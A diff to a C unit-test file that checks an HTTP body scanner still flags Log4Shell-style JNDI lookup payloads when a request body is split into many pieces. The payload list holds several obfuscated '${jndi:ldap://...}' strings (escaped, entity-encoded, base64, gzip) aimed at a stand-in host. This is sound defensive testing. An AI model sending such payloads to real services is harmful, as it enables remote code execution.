@@ -11,19 +11,36 @@ static void *take(void *ctx, size_t n)
     return test_malloc(n);
 }
 
-static bool clean2(struct guard *g, struct slice body, size_t seam, uint64_t limit)
+/* In pieces, each in memory of its own, behind which nothing may be read. */
+static bool clean(struct guard *g, const struct slice *pieces, size_t n, uint64_t limit)
 {
     struct guard_options o = {.least = VERDICT_IF_CLOSED, .body_limit = limit, .alloc = take};
     struct guard_request q = {0};
     struct slice none = {NULL, 0};
     guard_request_begin(&q, g, &o, NULL, none, SLICE_LIT("POST"), SLICE_LIT("/"), none);
     assert_ok(guard_body_begin(&q, none, none));
-    struct slice pieces[] = {slice_sub(body, 0, seam), slice_sub(body, seam, body.n)};
-    bool clean = guard_body_clean_pieces(&q, pieces, ARRAY_LEN(pieces));
+    struct slice own[8];
+    assert_true(n <= ARRAY_LEN(own));
+    for (size_t i = 0; i < n; i++) {
+        uint8_t *p = malloc(pieces[i].n + 1);
+        assert_non_null(p);
+        if (pieces[i].n)
+            memcpy(p + 1, pieces[i].p, pieces[i].n);
+        own[i] = slice_of(p + 1, pieces[i].n);
+    }
+    bool is = guard_body_clean_pieces(&q, own, n);
+    for (size_t i = 0; i < n; i++)
+        free((uint8_t *)(uintptr_t)own[i].p - 1);
     if (q.body)
         test_free(q.body);
     guard_request_end(&q);
-    return clean;
+    return is;
+}
+
+static bool clean2(struct guard *g, struct slice body, size_t seam, uint64_t limit)
+{
+    struct slice pieces[] = {slice_sub(body, 0, seam), slice_sub(body, seam, body.n)};
+    return clean(g, pieces, ARRAY_LEN(pieces), limit);
 }
 
 static void fill(struct buf *b, size_t n)
@@ -43,6 +60,9 @@ static const char *const payloads[] = {
     "\\u0024\\u007bjndi:ldap://x/a}",
     "&#36;&#123;jndi:ldap://x/a}",
     " JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0= ",
+    "&amp;dollar;{jndi:ldap://x/a}",
+    "&&#100;ollar;{jndi:ldap://x/a}",
+    "eB+LCAAAAAAAAv9TqcnLTMlMt8pJTCtILLLS14/QB+LaWgCQ3DTZFQAAAA==", /* gzip */
 };
 
 static void no_seam_hides_a_place(void **state)
@@ -69,6 +89,34 @@ static void no_seam_hides_a_place(void **state)
             assert_false(clean2(g, buf_slice(&body), body.n - 1, 0));
             assert_false(clean2(g, buf_slice(&body), body.n, 0));
             assert_false(clean2(g, slice_sub(buf_slice(&body), 0, end), before[k], 0));
+        }
+    }
+    buf_done(&body);
+    guard_free(g);
+}
+
+/* Pieces of which none shows a whole spelling, and the ones that show nothing. */
+static void no_many_pieces_hide_a_place(void **state)
+{
+    (void)state;
+    struct guard *g = NULL;
+    struct buf body;
+    assert_ok(guard_new(&g));
+    buf_init(&body, 65536);
+    for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
+        fill(&body, 50);
+        (void)buf_add_str(&body, payloads[i]);
+        (void)buf_add_str(&body, ", and more of the same");
+        struct slice s = buf_slice(&body);
+        for (size_t at = 44; at < s.n - 7; at++) {
+            for (size_t n = 1; n < 4; n++) {
+                struct slice pieces[] = {
+                    slice_sub(s, 0, at),         slice_sub(s, at, n),
+                    slice_sub(s, at, 0),         slice_sub(s, at + n, 1),
+                    slice_sub(s, at + n + 1, n), slice_sub(s, at + 2 * n + 1, s.n)};
+                if (clean(g, pieces, ARRAY_LEN(pieces), 0))
+                    fail_msg("%s in pieces of %zu at %zu", payloads[i], n, at);
+            }
         }
     }
     buf_done(&body);
@@ -124,6 +172,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(no_seam_hides_a_place),
+        cmocka_unit_test(no_many_pieces_hide_a_place),
         cmocka_unit_test(no_run_hides_a_place),
         cmocka_unit_test(plain_text_is_clean),
     };
